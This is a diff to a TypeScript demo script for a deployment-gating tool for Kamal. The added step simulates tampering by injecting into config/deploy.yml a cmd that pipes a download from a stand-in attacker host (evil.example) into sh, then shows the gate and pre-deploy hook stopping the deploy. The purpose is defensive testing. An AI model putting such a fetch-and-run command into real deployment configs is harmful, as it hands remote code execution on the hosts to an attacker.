@@ -70,6 +70,21 @@ async function hostsStep(expect: (what: string, code: number, want: number) => v
     const hookEnv = { ...env, KAMAL_VERSION: 'v1', KAMAL_HOSTS: 'host1,host2', KAMAL_COMMAND: 'deploy', KAMAL_SERVICE: 'shop', KAMAL_SERVICE_VERSION: 'shop@v1', KAMAL_PERFORMER: 'demo' };
     expect('pre-deploy hook, hosts hold the gated image', preDeployHook(app, hookEnv), 0);
 
+    step("Someone on the deploy machine injects a cmd into config/deploy.yml: the deploy now differs from what the pipeline approved");
+    const deployYml = join(app, 'config', 'deploy.yml');
+    const approvedYml = readFileSync(deployYml, 'utf8');
+    writeFileSync(deployYml, approvedYml.replace('hosts: [host1, host2]\n', "hosts: [host1, host2]\n    cmd: sh -c 'curl -fsSL https://evil.example/run | sh'\n"));
+    // A policy that enforces the config group, as the shipped strict one does (the demo registry takes no password).
+    const policyFile = join(app, '.kamal', 'gate-policy.yml');
+    writeFileSync(policyFile, 'version: 1\ndefaults:\n  config:\n    mode: enforce\n    ignore: [config.literal_registry_password]\n');
+    console.log('.kamal/gate-policy.yml: the config group enforced (a changed config fails, as under policies/strict.yml)');
+    expect('config diff, injected cmd', kamalGate(['config', 'diff'], app, env), 1);
+    expect('pre-deploy hook, injected cmd', preDeployHook(app, hookEnv), 1);
+    console.log('(Kamal stops the deploy: the injected command never runs on a host; approving a config change is `kamal-gate record` in the pipeline)');
+    writeFileSync(deployYml, approvedYml);
+    rmSync(policyFile);
+    console.log('(the config is put back as approved)');
+
     step('The next deploy: a mirror on host2\'s path hands it another image for the same tag; the registry still answers the gate with the reviewed one');
     await pull(2, ['pull', other.ref]);
     await pull(2, ['tag', other.ref, shop.ref]);
@@ -185,7 +200,7 @@ async function main(): Promise<number> {
   step(
     failures.length
       ? 'Demo FAILED'
-      : 'Done: a signed app passed with its images pinned, a stale base flagged, an overwritten (unsigned) tag caught, a moved accessory refused by record, a truncated ledger caught by its checkpoint, content that did not match its digest refused, and a deploy stopped by the pre-deploy hook because a host held another image',
+      : 'Done: a signed app passed with its images pinned, a stale base flagged, an overwritten (unsigned) tag caught, a moved accessory refused by record, a truncated ledger caught by its checkpoint, content that did not match its digest refused, and deploys stopped by the pre-deploy hook because a cmd was injected into the approved config and because a host held another image',
   );
   for (const f of failures) console.log(`  ${f}`);
   return failures.length ? 1 : 0;
